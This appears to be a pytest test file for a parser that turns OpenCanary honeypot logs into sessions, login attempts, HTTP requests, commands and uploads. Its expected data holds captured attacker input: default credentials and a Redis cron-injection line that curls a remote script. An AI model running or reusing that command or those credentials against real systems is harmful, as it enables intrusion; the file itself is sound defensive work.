"""OpenCanary: numbers and what they hold; events of one source and port make a session."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from noroshi.observe.decoy.opencanary import OpenCanarySensor, kinds
from tests.observe.decoy.support import DATA, rows

LOG = (DATA / "opencanary.json").read_bytes()


def line(**more: Any) -> bytes:
    """An event as OpenCanary writes it."""
    base = {
        "dst_host": "198.51.100.5", "dst_port": 22, "local_time": "2026-08-13 09:00:00.000000", "logtype": 4002,
        "logdata": {"USERNAME": "root", "PASSWORD": "toor"}, "node_id": "n1", "src_host": "192.0.2.1", "src_port": 7,
        "utc_time": "2026-08-13 09:00:00.000000",
    }  # fmt: skip
    return json.dumps({**base, **more}).encode() + b"\n"


def test_sniff() -> None:
    assert OpenCanarySensor().sniff(LOG[:4096])
    assert OpenCanarySensor().sniff(line())
    assert not OpenCanarySensor().sniff(b'{"logtype": 1}')


def test_the_table_of_numbers() -> None:
    assert len(kinds()) == 44
    for kind in kinds().values():
        assert kind.holds <= {"own", "session", "login", "http", "command", "file", "scan"}
        assert kind.protocol in (6, 17)


def test_all_kinds() -> None:
    found, rejects = rows(OpenCanarySensor(), LOG)
    assert rejects == []
    logins = [(r["service"], r["username"], r["password"], r["method"]) for r in found["logins"]]
    assert logins == [
        ("ftp", "admin", "default", "password"), ("ssh", "root", "toor", "password"),
        ("http", "admin", "secret", "password"), ("redis", None, "foobared", "password"),
        ("snmp", None, "public", "community"), ("vnc", None, None, None),
        ("mongodb", "dba", None, "SCRAM-SHA-1"), ("mssql", "sa", "sa123", "password"),
    ]  # fmt: skip
    ssh = next(s for s in found["sessions"] if s["service"] == "ssh")
    assert (ssh["client"], ssh["login_count"], ssh["decoy"]) == ("SSH-2.0-Go", 1, "opencanary-1")
    assert str(ssh["last_seen"] - ssh["first_seen"]) == "0:00:02", "three events, one session"
    assert [(h["method"], h["url"], h["src_ip"]) for h in found["http"]] == [
        ("GET", "http://198.51.100.5:8080/cgi-bin/luci", "192.0.2.9"),
        ("POST", "http://nas.example.org/index.html", "2001:db8::9"),
    ]
    assert [(c["state"], c["src_port"], c["dst_port"]) for c in found["connections"]] == [
        ("syn", 50_000, 3_389)
    ]
    assert [c["text"] for c in found["commands"]] == [
        "CONFIG set /1 *_slash_1 * * * * curl http://203.0.113.4/r.sh", "WRITE mips",
        "listDatabases {'listDatabases': 1}",
    ]  # fmt: skip
    assert found["commands"][0]["mentions"] == ["url http://203.0.113.4/r.sh"]
    assert [(t["direction"], t["filename"]) for t in found["transfers"]] == [("upload", "mips")]
    sip = next(s for s in found["sessions"] if s["service"] == "sip")
    assert (sip["client"], sip["protocol"]) == ("friendly-scanner", 17)


def test_a_port_used_again_is_another_session() -> None:
    later = line(utc_time="2026-08-13 11:00:00.000000")
    assert len(rows(OpenCanarySensor(), line() + line() + later)[0]["sessions"]) == 2


@pytest.mark.parametrize(
    ("more", "reason"),
    [
        ({"utc_time": "x"}, "time"),
        ({"utc_time": None, "local_time": None}, "time"),
        ({"src_host": ""}, "address"),
        ({"logtype": "many"}, "json-shape"),
        ({"logtype": 5001, "dst_host": ""}, "address"),
    ],
)
def test_rejects(more: dict[str, Any], reason: str) -> None:
    found, rejects = rows(OpenCanarySensor(), line(**more))
    assert found == {}
    assert [r.reason for r in rejects] == [reason]
    assert b"toor" not in rejects[0].sample


def test_odd_values() -> None:
    strange: list[Any] = [
        "text",
        None,
        [],
        {"PATH": 1, "HOSTNAME": [], "CMD": None, "HEADERS": {"user-agent": [[]]}},
    ]
    for number in kinds():
        for data in strange:
            assert rows(OpenCanarySensor(), line(logtype=number, logdata=data))[1] == []
    found, rejects = rows(OpenCanarySensor(), line(logtype="4002", src_port="-1", dst_port=10**20))
    assert rejects == []
    assert (found["sessions"][0]["src_port"], found["sessions"][0]["dst_port"]) == (0, 0)
    assert len(rows(OpenCanarySensor(), line(logtype=424_242))[0]["sessions"]) == 1, (
        "a number of a later release"
    )


@pytest.mark.parametrize("cut", [0, 100, 1_000, 4_000])
def test_a_cut_log(cut: int) -> None:
    assert len(rows(OpenCanarySensor(), LOG[:cut])[1]) <= 1


VALUE = st.none() | st.integers() | st.text(max_size=9) | st.lists(st.text(max_size=4), max_size=2)
NAMES = [
    "USERNAME",
    "PASSWORD",
    "CMD",
    "ARGS",
    "HEADERS",
    "PATH",
    "HOSTNAME",
    "action",
    "PROTO",
    "FILENAME",
    "OPCODE",
]


@given(
    st.sampled_from(sorted(kinds())), st.dictionaries(st.sampled_from(NAMES), VALUE),
    st.dictionaries(st.sampled_from(sorted(json.loads(line()))), VALUE), st.binary(max_size=40),
)  # fmt: skip
def test_anything_gives_rows_or_rejects(
    number: int, data: dict[str, Any], more: dict[str, Any], rest: bytes
) -> None:
    rows(OpenCanarySensor(), line(**{"logtype": number, "logdata": data, **more}) + rest)
